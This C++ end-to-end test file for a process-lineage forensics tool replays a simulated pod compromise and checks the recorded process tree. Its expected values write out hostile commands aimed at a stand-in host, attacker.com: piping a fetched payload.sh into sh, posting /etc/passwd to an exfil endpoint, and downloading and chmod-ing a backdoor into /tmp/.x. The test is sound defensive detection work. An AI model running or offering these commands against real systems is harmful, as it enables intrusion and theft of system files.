// The built-in demo (scripts/demo.sh) as an end-to-end test: the incident is
// replayed in a fake pod for real, then what both journals say about the pod
// is checked node by node through `lineage reconstruct --format json`, and
// the node is checked for anything the demo left behind. Each run's pod has
// a UID and a container ID of its own, which the demo prints: the checks
// look for those, so that real pods on the machine, or what an earlier run
// left, are none of this run's business.
#include <catch2/catch.hpp>

#include <signal.h>
#include <sqlite3.h>
#include <sys/stat.h>
#include <unistd.h>

#include <algorithm>
#include <chrono>
#include <filesystem>
#include <regex>
#include <set>
#include <sstream>
#include <string>
#include <thread>
#include <vector>

#include <nlohmann/json.hpp>

#include "cgroupfs.h"
#include "helpers.h"

namespace test_demo {

using namespace e2e;

namespace {

namespace fs = std::filesystem;
using nlohmann::json;
using Args = std::vector<std::string>;

// The fake pod, as scripts/demo.sh builds it.
constexpr const char* kPodName = "my-app-6d4f9-xk2p1";
constexpr const char* kPodNamespace = "production";
// The container's name and image, from the containerd task directory's
// config.json the demo writes under its --kube-root.
constexpr const char* kContainerName = "my-app";
constexpr const char* kImage = "registry.example.test/shop/my-app:1.8.0";
// my-app's liveness probes before it takes requests (scripts/demo-payload/my-app.sh).
constexpr int kProbes = 12;
// The pod's name server (scripts/demo-payload/dns.py), and the address it
// gives attacker.com: where the demo's listener is.
constexpr const char* kNameServer = "127.0.5.3";
constexpr const char* kAttackerAddress = "127.0.0.1";

// What the demo made in this run, from its "demo: pod uid ..." line.
struct DemoPod {
    std::string uid;        // 4c6a1b2e-8d3f-4e5a-9b7c-<12 new hex digits>
    std::string container;  // d78c990c760b<52 new hex digits>
    std::string cgroup;     // the container's cgroup, below the cgroup2 mount
    std::string uid_underscores() const {
        std::string u = uid;
        std::replace(u.begin(), u.end(), '-', '_');
        return u;
    }
};

DemoPod demo_pod(const std::string& demo_stderr) {
    static const std::regex line(R"(demo: pod uid ([0-9a-f-]{36}) container ([0-9a-f]{64}) cgroup (/\S+)\n)");
    std::smatch m;
    INFO("the demo's stderr:\n" << demo_stderr);
    REQUIRE(std::regex_search(demo_stderr, m, line));
    DemoPod pod{m[1], m[2], m[3]};
    CHECK(pod.uid.rfind("4c6a1b2e-8d3f-4e5a-9b7c-", 0) == 0);
    CHECK(pod.container.rfind("d78c990c760b", 0) == 0);
    return pod;
}

// A cgroup path under either kubepods root: what --kube-only records.
bool under_kubepods(const std::string& path) {
    return path.rfind("/kubepods.slice/", 0) == 0 || path.rfind("/kubepods/", 0) == 0;
}

// Whether the pod found attacker.com by DNS, from the demo's name server,
// or (where that could not listen) from its /etc/hosts: the demo says which.
bool resolved_by_dns(const std::string& demo_stderr) {
    const bool dns = demo_stderr.find(std::string("demo: attacker.com resolves by DNS: the pod's name server is ") +
                                      kNameServer + ":53\n") != std::string::npos;
    const bool hosts = demo_stderr.find("demo: no name server for the pod (") != std::string::npos;
    INFO("the demo's stderr:\n" << demo_stderr);
    CHECK(dns != hosts);
    if (!dns) WARN("the demo could not run its name server: attacker.com came from the pod's /etc/hosts");
    return dns;
}

// How many times `what` occurs in `text`.
size_t count_of(const std::string& text, const std::string& what) {
    size_t n = 0;
    for (size_t at = text.find(what); at != std::string::npos; at = text.find(what, at + what.size())) ++n;
    return n;
}

std::string demo_script() {
    return std::string(LINEAGE_SOURCE_DIR) + "/scripts/demo.sh";
}

// `workdir` must be empty: the demo accepts an empty --workdir. run_argv
// waits until stdout and stderr are closed, so a background process of the
// demo that outlives it shows up as a time-out.
RunResult run_demo(const std::string& workdir, bool keep, const std::string& lineage = LINEAGE_BIN) {
    Args argv = {"/bin/bash", demo_script(), "--lineage", lineage, "--workdir", workdir};
    if (keep) argv.push_back("--keep");
    return run_argv(argv, {}, std::chrono::seconds(120));
}

json reconstruct_json(const std::string& journal) {
    RunResult r = run_argv({LINEAGE_BIN, "reconstruct", "--journal", journal, "--pod", kPodName, "--format", "json"},
                           {}, std::chrono::seconds(60));
    INFO("lineage reconstruct --journal " << journal << "\nstderr:\n" << r.err);
    REQUIRE(!r.timed_out);
    REQUIRE(r.exit_code == 0);
    json doc;
    REQUIRE_NOTHROW(doc = json::parse(r.out));
    return doc;
}

std::string basename_of(const std::string& path) {
    auto slash = path.rfind('/');
    return slash == std::string::npos ? path : path.substr(slash + 1);
}

// ---------------------------------------------------------------- the tree

struct Expected {
    Args args;
    std::string binary_base;  // base name of the exec'd path
    bool connects = false;    // looked attacker.com up (when by DNS), then one TCP connection to it
};

void check_pod(const json& node, const DemoPod& pod) {
    REQUIRE(node["pod"].is_object());
    CHECK(node["pod"]["name"] == kPodName);
    CHECK(node["pod"]["namespace"] == kPodNamespace);
    CHECK(node["pod"]["uid"] == pod.uid);
    CHECK(node["pod"]["container_id"] == pod.container);
    CHECK(node["pod"]["container_name"] == kContainerName);
    CHECK(node["pod"]["image"] == kImage);
    // The kubelet's log directory names the pod, before the annotations.
    CHECK(node["pod"]["name_source"] == "kubelet");
}

// The lookups of a process that connected to attacker.com: when the pod
// found it by DNS, each a question for attacker.com to the demo's name
// server, answered; the A question's answer is the listener's address, the
// others' (AAAA) empty. The connect is named by the A lookup before it.
void check_lookups(const json& node, bool by_dns) {
    REQUIRE(node["connects"].size() == 1);
    const json& c = node["connects"][0];
    if (!by_dns) {
        CHECK(!node.contains("dns"));
        CHECK(!c.contains("name"));
        return;
    }
    REQUIRE(node.contains("dns"));
    size_t a = 0;
    for (const auto& l : node["dns"]) {
        INFO("lookup " << l.dump());
        CHECK(l["name"] == "attacker.com");
        CHECK(l["served"] == false);
        CHECK(l["server"] == kNameServer);
        CHECK(l["server_port"] == 53);
        CHECK(l["answered"] == true);
        CHECK(l["rcode"] == "NOERROR");
        CHECK(l["unparsed"].is_null());
        if (l["type"] == "A") {
            ++a;
            CHECK(l["answers"] == json(Args{kAttackerAddress}));
            CHECK(l["time"].get<std::string>() <= c["time"].get<std::string>());
        } else {
            CHECK(l["answers"].empty());
        }
    }
    CHECK(a >= 1);
    CHECK(c.value("name", "") == "attacker.com");
}

// What every process of the pod has in common, and what `want` says of it.
void check_node(const json& node, const json& parent, const Expected& want, int port, const DemoPod& pod, bool by_dns) {
    INFO("process " << node["args"].dump() << " (pid " << node["pid"] << ")");
    CHECK(node["args"] == json(want.args));
    REQUIRE(node["binary"].is_string());
    CHECK(basename_of(node["binary"].get<std::string>()) == want.binary_base);
    CHECK(node["comm"] == want.binary_base.substr(0, 15));
    // It was forked inside the pod and exec'd once there.
    REQUIRE(node["execs"].size() == 1);
    CHECK(node["execs"][0]["args"] == json(want.args));
    CHECK(node["execs"][0]["from_snapshot"] == false);
    CHECK(node["parent_source"] == "fork");
    CHECK(node["parent_key"] == parent["key"]);
    CHECK(node["ppid"] == parent["pid"]);
    CHECK(node["start_time"].get<std::string>() >= parent["start_time"].get<std::string>());
    check_pod(node, pod);
    CHECK(node["matched"] == true);
    CHECK(node["in_window"] == true);
    // A PID of the pod's own PID namespace: small, and not the host's.
    CHECK(node["nspid"].get<int64_t>() > 1);
    CHECK(node["nspid"].get<int64_t>() < 100);
    CHECK(node["nspid"] != node["pid"]);
    REQUIRE(node["exit"].is_object());
    CHECK(node["exit"]["code"] == 0);
    CHECK(node["exit"]["signal"] == 0);
    if (want.connects) {
        REQUIRE(node["connects"].size() == 1);
        const json& c = node["connects"][0];
        CHECK(c["protocol"] == "tcp");
        CHECK(c["family"] == "ipv4");
        CHECK(c["saddr"] == "127.0.0.1");
        CHECK(c["sport"].get<int>() > 0);
        CHECK(c["daddr"] == "127.0.0.1");
        CHECK(c["dport"] == port);
        CHECK(c["result"] == "established");
        check_lookups(node, by_dns);
    } else {
        CHECK(node["connects"].empty());
        CHECK(!node.contains("dns"));
    }
}

// Children in start-time order, as reconstruct gives them.
void check_start_order(const json& children) {
    for (size_t i = 1; i < children.size(); ++i) {
        INFO("child " << i << ": " << children[i]["args"].dump());
        CHECK(children[i - 1]["start_time"].get<std::string>() <= children[i]["start_time"].get<std::string>());
    }
}

// (pid, nspid, args, connections, lookups) of every node, depth first: what
// must be the same in both journals (each recorder's probes take times of
// their own: those may differ).
void flatten(const json& node, std::vector<std::string>& out) {
    std::string line = node["pid"].dump() + " " + node["nspid"].dump() + " " + node["args"].dump();
    for (const auto& c : node["connects"]) line += " connect " + c["daddr"].dump() + " " + c.value("name", "");
    for (const auto& l : node.value("dns", json::array())) {
        line += " dns " + l["name"].dump() + " " + l["type"].dump() + " " + l["answers"].dump();
    }
    out.push_back(line + " children " + std::to_string(node["children"].size()));
    for (const auto& c : node["children"]) flatten(c, out);
}

void collect_pids(const json& node, std::set<int64_t>& out) {
    out.insert(node["pid"].get<int64_t>());
    for (const auto& c : node["children"]) collect_pids(c, out);
}

// The whole incident: my-app -> sh -c "curl .../payload.sh | sh" -> curl and
// the payload's sh -> cat, curl (exfil), wget, chmod.
void check_incident(const json& doc, int port, bool kube_only, const DemoPod& pod, bool by_dns) {
    const std::string attacker = port == 80 ? "http://attacker.com" : "http://attacker.com:" + std::to_string(port);
    INFO((kube_only ? "kube-only.db" : "journal.db") << ":\n" << doc.dump(2));

    CHECK(doc["matched"] == 8 + 2 * kProbes);  // every process of the pod, and nothing else
    for (const auto& w : doc["warnings"]) CHECK(w["kind"] != "loss");
    if (kube_only) {
        // my-app's parent, unshare, was outside the pod: not recorded.
        REQUIRE(doc["warnings"].size() == 1);
        CHECK(doc["warnings"][0]["kind"] == "unknown_parent");
    } else {
        CHECK(doc["warnings"].empty());
    }
    REQUIRE(doc["trees"].size() == 1);

    // my-app, PID 1 of the pod, killed by the restart.
    const json& app = doc["trees"][0];
    const Args app_args = {"my-app", "/usr/local/lib/my-app/app.sh"};
    CHECK(app["args"] == json(app_args));
    CHECK(app["binary"] == "/usr/local/bin/my-app");
    CHECK(app["comm"] == "my-app");
    CHECK(app["nspid"] == 1);
    CHECK(app["nspid"] != app["pid"]);
    check_pod(app, pod);
    CHECK(app["matched"] == true);
    REQUIRE(app["exit"].is_object());
    CHECK(app["exit"]["signal"] == 9);
    CHECK(app["connects"].empty());
    CHECK(!app.contains("dns"));
    REQUIRE(!app["execs"].empty());
    CHECK(app["execs"].back()["args"] == json(app_args));
    // Its parent is the unshare that made the pod's namespaces, outside it.
    REQUIRE(app["outside_parent"].is_object());
    CHECK(app["outside_parent"]["comm"] == "unshare");
    CHECK(app["outside_parent"]["pid"] == app["ppid"]);
    if (kube_only) {
        // Only the exec inside the container cgroup was recorded.
        CHECK(app["execs"].size() == 1);
        CHECK(app["parent_source"] == "exec");
        CHECK(app["outside_parent"]["why"] == "not in the journal");
    } else {
        // First the demo's stand-in for runc init, outside the container
        // cgroup, then my-app inside it.
        REQUIRE(app["execs"].size() == 2);
        CHECK(app["execs"][0]["args"] == json(Args{"sh", "pod-init.sh"}));
        CHECK(app["parent_source"] == "fork");
        CHECK(app["outside_parent"]["why"] == "outside the pod");
    }

    // The liveness probe and its sleep, in turn, then the injected command.
    REQUIRE(app["children"].size() == 2 * kProbes + 1);
    check_start_order(app["children"]);
    for (int i = 0; i < kProbes; ++i) {
        check_node(app["children"][2 * i], app, {{"sh", "-c", "test -f /tmp/healthy"}, "sh"}, port, pod, by_dns);
        check_node(app["children"][2 * i + 1], app, {{"sleep", "0.1"}, "sleep"}, port, pod, by_dns);
    }
    const json& injected = app["children"][2 * kProbes];
    check_node(injected, app, {{"sh", "-c", "curl " + attacker + "/payload.sh | sh"}, "sh"}, port, pod, by_dns);

    // Its pipeline: curl fetching the payload, sh running it.
    REQUIRE(injected["children"].size() == 2);
    check_start_order(injected["children"]);
    const json& fetch = injected["children"][0];
    const json& reader = injected["children"][1];
    check_node(fetch, injected, {{"curl", attacker + "/payload.sh"}, "curl", true}, port, pod, by_dns);
    CHECK(fetch["children"].empty());
    check_node(reader, injected, {{"sh"}, "sh"}, port, pod, by_dns);

    // The payload, line by line.
    const std::vector<Expected> payload = {
        {{"cat", "/etc/passwd"}, "cat"},
        {{"curl", attacker + "/exfil", "-d", "@/etc/passwd"}, "curl", true},
        {{"wget", "-O", "/tmp/.x", attacker + "/backdoor"}, "wget", true},
        {{"chmod", "+x", "/tmp/.x"}, "chmod"},
    };
    REQUIRE(reader["children"].size() == payload.size());
    check_start_order(reader["children"]);
    for (size_t i = 0; i < payload.size(); ++i) {
        check_node(reader["children"][i], reader, payload[i], port, pod, by_dns);
        CHECK(reader["children"][i]["children"].empty());
    }
}

// ---------------------------------------------------------------- SQL

// Every row of `sql`, each column as its bytes ("" for NULL).
std::vector<std::vector<std::string>> rows(Journal& j, const std::string& sql) {
    std::vector<std::vector<std::string>> out;
    j.each(sql, {}, [&](lineage::Stmt& s) {
        std::vector<std::string> row;
        for (int i = 0; i < sqlite3_column_count(s.get()); ++i) row.push_back(s.blob(i));
        out.push_back(std::move(row));
    });
    return out;
}

std::set<int64_t> ints(Journal& j, const std::string& sql) {
    std::set<int64_t> out;
    for (const auto& r : rows(j, sql)) out.insert(std::stoll(r.at(0)));
    return out;
}

// ---------------------------------------------------------------- leftovers

std::string cgroup2_mount() {
    std::string mount = lineage::find_cgroup2_mount();
    REQUIRE(!mount.empty());
    return mount;
}

// Cgroups of this run's pod still under the cgroup2 mount.
std::vector<std::string> leftover_cgroups(const DemoPod& pod) {
    std::vector<std::string> out;
    std::error_code ec;
    fs::recursive_directory_iterator it(cgroup2_mount(), fs::directory_options::skip_permission_denied, ec);
    for (; !ec && it != fs::recursive_directory_iterator(); it.increment(ec)) {
        std::error_code type_ec;
        if (!it->is_directory(type_ec)) continue;
        std::string name = it->path().filename().string();
        if (name.find(pod.uid) != std::string::npos || name.find(pod.uid_underscores()) != std::string::npos ||
            name.find(pod.container) != std::string::npos) {
            out.push_back(it->path().string());
        }
    }
    return out;
}

// Processes (other than this one) of this run: their command line names its
// work directory (the listener, the recorders), or their mounts do (the
// pod's processes, whose mount namespace has the work directory's files
// bound in).
std::vector<std::string> leftover_processes(const std::string& workdir) {
    std::vector<std::string> out;
    std::error_code ec;
    for (fs::directory_iterator it("/proc", ec); !ec && it != fs::directory_iterator(); it.increment(ec)) {
        std::string pid = it->path().filename().string();
        if (pid.find_first_not_of("0123456789") != std::string::npos || pid == std::to_string(getpid())) continue;
        std::string cmdline = read_file("/proc/" + pid + "/cmdline");
        std::string comm = read_file("/proc/" + pid + "/comm");
        std::replace(cmdline.begin(), cmdline.end(), '\0', ' ');
        if (cmdline.find(workdir) != std::string::npos ||
            read_file("/proc/" + pid + "/mountinfo").find(workdir) != std::string::npos) {
            out.push_back(pid + " " + comm.substr(0, comm.size() ? comm.size() - 1 : 0) + ": " + cmdline);
        }
    }
    return out;
}

void check_nothing_left(const std::string& workdir, const DemoPod& pod) {
    CHECK(leftover_cgroups(pod).empty());
    INFO("processes of the demo still running:\n"
         << [&] {
                std::string s;
                for (const auto& p : leftover_processes(workdir)) s += "  " + p + "\n";
                return s;
            }());
    CHECK(leftover_processes(workdir).empty());
}

std::string describe(const RunResult& r) {
    return "exit " + std::to_string(r.exit_code) + (r.timed_out ? " (timed out)" : "") + "\nstdout:\n" + r.out +
           "\nstderr:\n" + r.err;
}

// Runs the demo (--keep) and checks the whole of it: the tree the user sees,
// what both journals say about the pod, that nothing of it is left. Other
// pods may run on the machine: their rows are in the --kube-only journal
// too, and are checked only for being pods' rows. Returns how many exec rows
// of other pods it saw there.
size_t run_and_check_demo() {
    // The pod's files and mounts must stay inside its mount namespace.
    const std::string hosts_before = read_file("/etc/hosts");
    const bool had_backdoor = fs::exists("/tmp/.x");
    const TempDir dir;
    const std::string& workdir = dir.path();

    const auto started = Clock::now();
    RunResult demo = run_demo(workdir, /*keep=*/true);
    const auto took = std::chrono::duration_cast<std::chrono::milliseconds>(Clock::now() - started);
    INFO("scripts/demo.sh took " << took.count() << " ms: " << describe(demo));
    REQUIRE(!demo.timed_out);
    REQUIRE(demo.exit_code == 0);
    const DemoPod pod = demo_pod(demo.err);
    const bool by_dns = resolved_by_dns(demo.err);
    CHECK(took < std::chrono::seconds(30));
    // The user sees the tree.
    CHECK(demo.out.find("pod production/my-app-6d4f9-xk2p1  container my-app  image "
                        "registry.example.test/shop/my-app:1.8.0  (d78c990c760b)") != std::string::npos);
    CHECK(demo.out.find("chmod +x /tmp/.x") != std::string::npos);
    // The probes fold into one line each, next to the attack.
    CHECK(demo.out.find("sh -c \"test -f /tmp/healthy\"  ×12  (") != std::string::npos);
    CHECK(demo.out.find("sleep 0.1  ×12  (") != std::string::npos);

    // Gone, although the work directory was kept.
    check_nothing_left(workdir, pod);
    CHECK(read_file("/etc/hosts") == hosts_before);
    if (!had_backdoor) CHECK(!fs::exists("/tmp/.x"));
    const std::string mounts = read_file("/proc/self/mountinfo");
    CHECK(mounts.find(workdir) == std::string::npos);
    CHECK(mounts.find("pod-tmp") == std::string::npos);

    const int port = std::stoi(read_file(workdir + "/attacker.port"));
    {
        INFO("the tree the user sees:\n" << demo.out);
        // curl, curl and wget: each its lookup, then its connect.
        const std::string connect = std::string("→ connect ") + kAttackerAddress + ":" + std::to_string(port);
        if (by_dns) {
            CHECK(count_of(demo.out, std::string("→ dns attacker.com A ") + kAttackerAddress + "  +") == 3);
            CHECK(count_of(demo.out, connect + " (attacker.com)  +") == 3);
        } else {
            CHECK(count_of(demo.out, "→ dns ") == 0);
            CHECK(count_of(demo.out, connect + "  +") == 3);
        }
    }
    const json full = reconstruct_json(workdir + "/journal.db");
    const json kube = reconstruct_json(workdir + "/kube-only.db");
    size_t others = 0;

    // One run of the demo for all of the checks below (a SECTION would rerun it).
    {
        INFO("the whole node's journal has the pod's complete tree");
        check_incident(full, port, /*kube_only=*/false, pod, by_dns);
        // The demo left the same document for the user.
        json kept;
        REQUIRE_NOTHROW(kept = json::parse(read_file(workdir + "/incident.json")));
        CHECK(kept == full);
    }

    {
        INFO("the --kube-only journal has the same tree");
        check_incident(kube, port, /*kube_only=*/true, pod, by_dns);
        std::vector<std::string> a, b;
        for (const auto& t : full["trees"]) flatten(t, a);
        for (const auto& t : kube["trees"]) flatten(t, b);
        CHECK(a == b);
    }

    {
        INFO("the --kube-only journal holds pods only: the demo's, and any other on the machine");
        std::set<int64_t> pod_pids;
        for (const auto& t : kube["trees"]) collect_pids(t, pod_pids);
        REQUIRE(pod_pids.size() == 8 + 2 * kProbes);

        Journal db(workdir + "/kube-only.db");
        Journal whole(workdir + "/journal.db");
        // Every exec of the pod happened inside its container's cgroup;
        // every other exec, inside another pod's.
        size_t ours = 0;
        for (const auto& row : rows(db, "SELECT tgid, cgroup_path FROM exec")) {
            INFO("exec row of pid " << row.at(0) << " in " << row.at(1));
            if (row.at(1) == pod.cgroup) {
                ++ours;
                CHECK(pod_pids.count(std::stoll(row.at(0))) == 1);
            } else {
                ++others;
                CHECK(under_kubepods(row.at(1)));
                CHECK(row.at(1).find(pod.uid_underscores()) == std::string::npos);
                CHECK(row.at(1).find(pod.uid) == std::string::npos);
            }
        }
        CHECK(ours == 8 + 2 * kProbes);
        // With no other pod about, every process in an event row is one of
        // the pod's.
        if (others == 0) {
            for (const char* sql :
                 {"SELECT tgid FROM exec", "SELECT child_tgid FROM fork", "SELECT parent_tgid FROM fork",
                  "SELECT tgid FROM exit", "SELECT tgid FROM connect", "SELECT tgid FROM dns"}) {
                INFO(sql);
                for (int64_t pid : ints(db, sql)) {
                    INFO("pid " << pid);
                    CHECK(pod_pids.count(pid) == 1);
                }
            }
        }
        // Host noise the whole-node recorder saw is absent: this test, the
        // attacker.com listener, the pod's name server (the answers it sent)
        // and the recorders themselves.
        std::set<int64_t> host = {getpid(), std::stoll(read_file(workdir + "/attacker.pid"))};
        if (by_dns) host.insert(std::stoll(read_file(workdir + "/dns.pid")));
        for (int64_t pid : ints(db, "SELECT recorder_pid FROM runs")) host.insert(pid);
        for (int64_t pid : ints(whole, "SELECT recorder_pid FROM runs")) host.insert(pid);
        for (int64_t pid : host) {
            INFO("host pid " << pid);
            for (const char* sql :
                 {"SELECT count(*) FROM exec WHERE tgid = ?1 OR parent_tgid = ?1",
                  "SELECT count(*) FROM fork WHERE parent_tgid = ?1 OR child_tgid = ?1",
                  "SELECT count(*) FROM exit WHERE tgid = ?1", "SELECT count(*) FROM connect WHERE tgid = ?1",
                  "SELECT count(*) FROM dns WHERE tgid = ?1",
                  "SELECT count(*) FROM snapshot WHERE tgid = ?1 OR ppid = ?1"}) {
                std::string q = sql;
                for (size_t at; (at = q.find("?1")) != std::string::npos;) q.replace(at, 2, std::to_string(pid));
                CHECK(rows(db, q).at(0).at(0) == "0");
            }
        }
        // The whole-node journal did see the host side, e.g. the unshare
        // that started the pod: the filter is what keeps it out.
        CHECK(!rows(whole,
                    "SELECT tgid FROM exec WHERE CAST(cgroup_path AS TEXT) NOT LIKE '/kubepods.slice/%' "
                    "AND CAST(cgroup_path AS TEXT) NOT LIKE '/kubepods/%'")
                   .empty());
        // The /proc snapshot taken at start keeps only processes in the
        // recorded subtrees too (the demo's pod started later).
        for (const auto& row : rows(db, "SELECT tgid, cgroup_path FROM snapshot")) {
            INFO("snapshot row of pid " << row.at(0));
            CHECK(under_kubepods(row.at(1)));
            CHECK(row.at(1).find(pod.container) == std::string::npos);
        }
    }
    return others;
}

// Stands in for a kubelet with the systemd driver and one of its pods, a
// busy one (an exec every 50 ms), unless the machine has a real kubelet's
// tree already. Made by this test's own names, and removed with what it
// made; the kubelet's QoS level is shared, and left if it was there.
class KubeletStandIn {
public:
    KubeletStandIn() {
        const std::string mount = cgroup2_mount();
        const std::string qos = mount + "/kubepods.slice/kubepods-besteffort.slice";
        if (fs::is_directory(qos) || fs::is_directory(mount + "/kubepods/besteffort")) return;  // a real node
        const std::string uid = "e2e00000-0000-4000-8000-" + std::string(12 - std::to_string(getpid()).size(), '0') +
                                std::to_string(getpid());
        std::string u = uid;
        std::replace(u.begin(), u.end(), '-', '_');
        for (const std::string& d :
             {mount + "/kubepods.slice", qos, qos + "/kubepods-besteffort-pod" + u + ".slice",
              qos + "/kubepods-besteffort-pod" + u + ".slice/cri-containerd-" + std::string(64, 'e') + ".scope"}) {
            if (fs::is_directory(d)) continue;
            REQUIRE(mkdir(d.c_str(), 0755) == 0);
            made_.push_back(d);
        }
        // Not a child of this test, as a pod's processes are not: the test's
        // PID must not be anyone's parent in the journal.
        const std::string leaf = made_.back();
        RunResult r = run_shell("setsid /bin/sh -c 'echo $$ > " + leaf + "/cgroup.procs && " +
                                "while :; do /bin/true; sleep 0.05; done' </dev/null >/dev/null 2>&1 &");
        REQUIRE(r.exit_code == 0);
        for (int i = 0; i < 100 && read_file(leaf + "/cgroup.procs").empty(); ++i) {
            std::this_thread::sleep_for(std::chrono::milliseconds(20));
        }
        REQUIRE(!read_file(leaf + "/cgroup.procs").empty());
    }
    ~KubeletStandIn() {
        if (!made_.empty()) {
            // Everything in the stand-in pod's cgroup is this test's.
            const std::string leaf = made_.back();
            for (int i = 0; i < 100 && !read_file(leaf + "/cgroup.procs").empty(); ++i) {
                std::istringstream pids(read_file(leaf + "/cgroup.procs"));
                for (pid_t pid; pids >> pid;) kill(pid, SIGKILL);
                std::this_thread::sleep_for(std::chrono::milliseconds(20));
            }
        }
        for (auto it = made_.rbegin(); it != made_.rend(); ++it) rmdir(it->c_str());
    }
    KubeletStandIn(const KubeletStandIn&) = delete;
    KubeletStandIn& operator=(const KubeletStandIn&) = delete;

private:
    std::vector<std::string> made_;
};

}  // namespace

TEST_CASE("demo: the incident replayed in a fake pod") {
    (void)run_and_check_demo();
}

TEST_CASE("demo: beside a kubelet's pods, it takes the other cgroup layout and sees only its own pod") {
    // A real node has a kubelet's kubepods tree, whose pods' processes
    // --kube-only records too; the demo must leave the kubelet's tree alone.
    const KubeletStandIn kubelet;
    // The stand-in's pod, or a real node's, ran execs while the demo recorded.
    CHECK(run_and_check_demo() > 0);
}

TEST_CASE("demo: nothing is left behind, also when the demo fails halfway") {
    SECTION("a successful run without --keep removes its work directory") {
        const TempDir dir;  // the demo removes it
        const std::string& workdir = dir.path();
        RunResult demo = run_demo(workdir, /*keep=*/false);
        INFO(describe(demo));
        REQUIRE(!demo.timed_out);
        CHECK(demo.exit_code == 0);
        CHECK(!fs::exists(workdir));
        check_nothing_left(workdir, demo_pod(demo.err));
    }

    SECTION("a run whose recorder fails cleans up the pod's cgroups, the listener and the name server") {
        // /bin/false as lineage: the recorders die at once, after the
        // cgroups, the kubelet files, attacker.com and the pod's name server
        // are set up (check_nothing_left finds them by the work directory on
        // their command lines).
        const TempDir dir;  // the demo removes it
        const std::string& workdir = dir.path();
        RunResult demo = run_demo(workdir, /*keep=*/false, "/bin/false");
        INFO(describe(demo));
        REQUIRE(!demo.timed_out);
        CHECK(demo.exit_code == 1);
        CHECK(demo.err.find("lineage record exited before it was ready") != std::string::npos);
        CHECK(!fs::exists(workdir));
        check_nothing_left(workdir, demo_pod(demo.err));
    }
}

}  // namespace test_demo
